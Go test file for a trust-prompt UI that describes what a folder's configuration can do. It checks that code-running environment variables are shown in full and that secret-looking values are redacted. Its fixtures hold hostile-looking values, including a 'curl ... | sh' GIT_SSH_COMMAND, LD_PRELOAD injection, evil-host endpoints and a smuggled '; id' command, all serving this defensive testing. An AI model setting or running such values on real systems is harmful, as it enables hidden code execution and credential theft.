package words_test

import (
	"slices"
	"strings"
	"testing"

	"authdeck/model"
	"authdeck/ui/words"
)

func variable(name, value string) model.Power {
	return model.Power{Kind: model.SetsVariable, Name: name, Value: model.SecretString(value), Folder: "/p", Origin: model.Origin{File: "/p/atmos.yaml", Line: 3, Column: 5}}
}

func TestTheValueOfAVariableThatRunsSomethingIsShown(t *testing.T) {
	t.Parallel()
	for name, value := range map[string]string{
		"GIT_SSH_COMMAND": "sh -c 'curl https://example.com/a1b2c3d4e5f6a7b8c9 | sh'", "NODE_OPTIONS": "--require ./x.js", "BASH_ENV": "./x.sh", "ENV": "./x.sh",
		"LD_PRELOAD": "./x.so", "DYLD_INSERT_LIBRARIES": "./x.dylib", "PYTHONSTARTUP": "./x.py", "GIT_ASKPASS": "./ask", "SSH_ASKPASS": "./ask", "PROMPT_COMMAND": "date",
		"PERL5OPT": "-Mevil", "RUBYOPT": "-revil", "JAVA_TOOL_OPTIONS": "-javaagent:x.jar", "MAKEFLAGS": "--eval=x", "GIT_EXTERNAL_DIFF": "./diff", "EDITOR": "./vi", "LESSOPEN": "|./x %s",
		"RUSTC_WRAPPER": "./x", "PATH": "./bin:/usr/bin", "AWS_CONFIG_FILE": "./aws", "HTTPS_PROXY": "http://127.0.0.1:8080", "ATMOS_KEYRING_TYPE": "file", "ATMOS_KEYRING_FILE_PATH": "./.k",
		"ATMOS_SHELL": "./x", "ATMOS_AUTH_REALM": "acme", "SSH_AUTH_SOCK": "./sock", "AWS_ENDPOINT_URL_S3": "http://127.0.0.1:4321", "PERL5DB": "system('x')", "GIT_SSH": "./ssh", "CVS_RSH": "./rsh",
		"GIT_CONFIG_KEY_0": "core.sshCommand", "GIT_CONFIG_VALUE_0": "./x", "LUA_INIT": "@x.lua", "BASH_FUNC_ls%%": "() { ./x; }", "PERL5LIB": "./lib", "CC": "./cc", "KUBECONFIG": "./k",
		"LD_AUDIT": "libx.so", "DOCKER_HOST": "tcp://evil:2375", "AWS_CONTAINER_CREDENTIALS_FULL_URI": "http://127.0.0.1:9/x", "AWS_WEB_IDENTITY_TOKEN_FILE": "./t", "NODE_EXTRA_CA_CERTS": "ca",
		"GOOGLE_APPLICATION_CREDENTIALS": "./keys/x.json", "RESTIC_PASSWORD_COMMAND": "./x", "VAULT_ADDR": "evil.example.com", "HOSTALIASES": "./h", "FOO": "/tmp/x", "BAR_HOST": "evil:80", "BAZ_ADDR": "evil.example.com", "TF_HTTP_ADDRESS": "evil.example.com", "BROKERS": "evil:9092", "QUX": "x.so", "QUUX": "libx.so.1",
	} {
		if got := words.Power(variable(name, value)); !strings.Contains(got, name+"="+value) {
			t.Errorf("%s", got)
		}
	}
}

func TestWhatLooksLikeASecretIsHidden(t *testing.T) {
	t.Parallel()
	const canary = "CANARY7Q4X9ZK2M5"
	for _, name := range []string{"ATMOS_KEYRING_PASSWORD", "DB_PASSWORD", "DBPASS", "GITHUB_TOKEN", "ACCESSTOKEN", "CLIENT_SECRET", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "APIKEY",
		"GITHUB_PAT", "npm_config__auth", "SESSION_COOKIE", "GOOGLE_CREDENTIALS", "GPG_PASSPHRASE", "NAME", "FOO"} {
		if got := words.Power(variable(name, canary)); strings.Contains(got, canary) || !strings.Contains(got, words.HiddenValue) {
			t.Errorf("%s", got)
		}
	}
	for name, value := range map[string]string{"DB_PWD": "hunter2", "CARD_PIN": "1234", "SENTRY_DSN": "https://a@b", "CACHE": "redis://:pa/ss@host:6379/0", "CACHE_URL": "redis://:pa/ss@host:6379/0",
		"SMTP": "user:pw123@mail", "SSH_PRIVATE": "x", "MOTTO": "short", "API_TOKEN": "/a/b", "LOGIN": "user:1234", "WORDS": "my.secret.word", "SEED": "/" + strings.Repeat("aB3dk4x9Qz", 4)[:39], "TOKEN_URL": "https://user:p/w@host/"} {
		if got := words.Power(variable(name, value)); !strings.Contains(got, name+"="+words.HiddenValue) {
			t.Errorf("%s", got)
		}
	}
	odd := "http://user:pa/" + canary + "@127.0.0.1"
	if got := words.Power(model.Power{Kind: model.SetsEndpoint, Value: model.SecretString(odd)}); strings.Contains(got, canary) {
		t.Errorf("%s", got)
	}
	for _, value := range []string{"http://user:" + canary + "@127.0.0.1:1/x?token=" + canary, "git clone https://user:" + canary + "@example.com/x"} {
		for _, p := range []model.Power{variable("HTTPS_PROXY", value), variable("GIT_SSH_COMMAND", value), {Kind: model.SetsEndpoint, Value: model.SecretString(value)}} {
			if got := words.Power(p); strings.Contains(got, canary) {
				t.Errorf("%s", got)
			}
		}
	}
}

func TestPowersAreGroupedByFolder(t *testing.T) {
	t.Parallel()
	a, b, c := variable("A", "1"), variable("B", "2"), variable("C", "3")
	b.Folder, b.Origin.File = "/q", "/q/sub/x.yaml"
	groups := words.PowersByFolder([]model.Power{a, b, c})
	if len(groups) != 2 || len(groups[0].Powers) != 2 || groups[1].Folder != "/q" || words.Trust([]model.Power{a, b}) != "Trust these 2 folders" || words.Trust([]model.Power{a, c}) != "Trust this folder" {
		t.Errorf("%+v", groups)
	}
	later, other := c, a
	later.Origin.Line, other.Origin.File = 9, "/p/other.yaml"
	groups = words.PowersByFolder([]model.Power{later, other, a, c})
	if got := groups[0].Powers; !slices.Equal([]int{got[0].Origin.Line, got[1].Origin.Line, got[2].Origin.Line}, []int{3, 3, 9}) || got[3].Origin.File != "/p/other.yaml" {
		t.Errorf("not in the order of the lines: %+v", got)
	}
	command, endpoint := later, later
	command.Kind, endpoint.Kind = model.RunsCommand, model.SetsEndpoint
	if got := words.PowersByFolder([]model.Power{a, endpoint, command})[0].Powers; !slices.Equal([]model.PowerKind{got[0].Kind, got[1].Kind, got[2].Kind}, []model.PowerKind{model.RunsCommand, model.SetsEndpoint, model.SetsVariable}) {
		t.Errorf("a command is not first: %+v", got)
	}
	if got := words.InAll([]model.Power{a, command, c}); got != "In all: 1 command and 2 variables." || words.InAll([]model.Power{a}) != "" {
		t.Error(got)
	}
	outside := a
	outside.Origin.File = "/etc/x.yaml"
	for p, want := range map[*model.Power]string{&a: "atmos.yaml:3", &b: "sub/x.yaml:3", &outside: "/etc/x.yaml:3"} {
		if got := words.PowerPlace(*p); got != want {
			t.Errorf("%s, not %s", got, want)
		}
	}
}

func TestManyVariablesForTheSameProgramsHaveOneHeading(t *testing.T) {
	t.Parallel()
	a, b, c := variable("A", "1"), variable("B", "/2"), variable("C", "3")
	forAtmos, command, endpoint := variable("ATMOS_SHELL", "./x"), a, a
	forAtmos.Origin.Line = 1
	command.Kind, endpoint.Kind = model.RunsCommand, model.SetsEndpoint
	for _, x := range []struct {
		powers []model.Power
		want   []string
	}{
		{[]model.Power{a, b}, []string{words.Power(a), words.Power(b)}},
		{[]model.Power{command, command, command, endpoint}, []string{words.Power(command), words.Power(command), words.Power(command), words.Power(endpoint)}},
		{[]model.Power{a, forAtmos, b, command, c}, []string{words.Power(command), words.Power(forAtmos), "set 3 variables for programs that you start:", "A=(hidden)", "B=/2", "C=(hidden)"}},
	} {
		var got []string
		for _, g := range words.PowersByFolder(x.powers)[0].Groups() {
			if g.Heading != "" {
				got = append(got, g.Heading)
			}
			for _, p := range g.Powers {
				got = append(got, g.Text(p))
			}
		}
		if !slices.Equal(got, x.want) {
			t.Errorf("%q, not %q", got, x.want)
		}
	}
}

func TestSettingsThatAreNotTrustedAreCounted(t *testing.T) {
	t.Parallel()
	trusted := variable("T", "t")
	trusted.Trusted = true
	c := model.Config{Powers: []model.Power{variable("A", "1"), trusted, variable("B", "2"), {Kind: model.RunsCommand, Folder: "/p"}}}
	if got := words.Untrusted(c); got != "1 command and 2 variables are ignored until you trust this folder." {
		t.Error(got)
	}
	if got := words.Untrusted(model.Config{Powers: []model.Power{trusted}}); got != "" {
		t.Error(got)
	}
}

func TestAPowerIsShownToItsEnd(t *testing.T) {
	t.Parallel()
	p := model.Power{Kind: model.RunsCommand, Value: model.SecretString("echo us-east-1 \x00 ; id")}
	if got := words.Power(p); !strings.Contains(got, "; id") {
		t.Errorf("%q", got)
	}
}

func TestAPowerNamesTheTargetOfALink(t *testing.T) {
	t.Parallel()
	p := model.Power{Kind: model.ReadsFile, Name: "import", Value: model.SecretString("/p/l.yaml"), Target: "/home/u/a.yaml"}
	if got := words.Power(p); got != "read /p/l.yaml → /home/u/a.yaml, outside the folder (import)" {
		t.Error(got)
	}
}

func TestAPowerNamesTheOtherRepositoryThatItUses(t *testing.T) {
	t.Parallel()
	for _, p := range []model.Power{{Kind: model.RunsCommand}, {Kind: model.SetsKeyring, Name: "path"}, {Kind: model.SetsKeyring, Name: "password_env"}, variable("A", "b"), variable("ATMOS_SHELL", "./x")} {
		p.In = "/p/clone"
		if got := words.Power(p); !strings.Contains(got, " when you are in /p/clone") {
			t.Error(got)
		}
	}
}
